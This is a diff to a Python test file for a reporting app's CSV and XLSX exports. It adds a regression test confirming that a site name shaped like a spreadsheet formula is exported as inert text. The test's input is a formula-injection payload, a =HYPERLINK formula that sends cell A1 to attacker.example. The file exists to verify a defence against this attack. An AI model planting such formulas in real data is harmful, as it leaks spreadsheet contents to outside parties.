@@ -13,6 +13,7 @@ from relais.apps.reporting import exports
 from relais.apps.reporting.selectors import ReportRow
 from relais.apps.reporting.stats import intervals_recompute
 from relais.core.kpi import KpiSummary
+from relais.core.spreadsheet import formula_safe
 from tests.apps.conftest import World, logged_in
 from tests.apps.reporting.reading import csv_rows, xlsx_rows
 from tests.apps.routing.fixtures import orders_queue
@@ -114,8 +115,8 @@ def test_a_name_that_looks_like_a_formula_is_text_in_both_exports(name: str) -> 
 
 
 def test_ordinary_names_are_left_as_they_are() -> None:
-    assert exports.safe_text("Lille A") == "Lille A"
-    assert exports.safe_text("Équipe 2 = bis") == "Équipe 2 = bis"
+    assert formula_safe("Lille A") == "Lille A"
+    assert formula_safe("Équipe 2 = bis") == "Équipe 2 = bis"
 
 
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
@@ -130,6 +131,23 @@ def test_a_partner_managers_export_holds_only_their_partners_figures(day: World,
     else:
         headings, rows, _sheet = xlsx_rows(response.content)
         assert [(row[1], row[headings.index("Answered")]) for row in rows] == [("Rabat", 1)]
+
+
+def test_a_site_named_like_a_formula_is_exported_as_text(day: World) -> None:
+    """Issue 25, finding 4: `=HYPERLINK(...)` reached the spreadsheet as a formula."""
+    link = '=HYPERLINK("http://attacker.example/?x="&A1,"Rabat")'
+    day.rabat.name = link
+    day.rabat.save(update_fields=["name"])
+    client = _as(day, "partner_manager", "en")
+    query = f"?start={DAY}&end={DAY}&group_by=site"
+
+    csv_export = client.get(f"/reports/export.csv{query}")  # type: ignore[attr-defined]
+    xlsx_export = client.get(f"/reports/export.xlsx{query}")  # type: ignore[attr-defined]
+
+    assert [row["Site"] for row in csv_rows(csv_export.content, separator=",")] == [f"'{link}"]
+    _headings, rows, sheet = xlsx_rows(xlsx_export.content)
+    assert [row[1] for row in rows] == [link]
+    assert (sheet.cell(2, 2).data_type, sheet.cell(2, 2).quotePrefix) == ("s", True)
 
 
 def test_an_export_with_a_wrong_date_is_refused_with_the_reason(day: World) -> None:
